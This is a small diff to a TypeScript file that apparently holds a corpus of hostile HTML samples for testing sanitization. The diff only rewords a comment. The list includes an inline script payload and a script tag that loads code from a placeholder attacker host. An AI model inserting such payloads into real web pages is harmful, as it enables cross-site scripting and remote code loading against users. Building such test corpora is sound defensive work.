@@ -1,6 +1,6 @@
 import { attackHost, attackMark, script } from './attack-corpus-signal.ts';
 
-/** HTML that runs something, loads something or breaks out, wherever somebody sets it as markup. */
+/** HTML that runs a script, loads something or breaks out, if it is inserted as markup. */
 export const attackMarkup: readonly { name: string; html: string }[] = [
   { name: 'script', html: `<script>${script}</script>` },
   { name: 'script from elsewhere', html: `<script src="https://${attackHost}/x.js"></script>` },
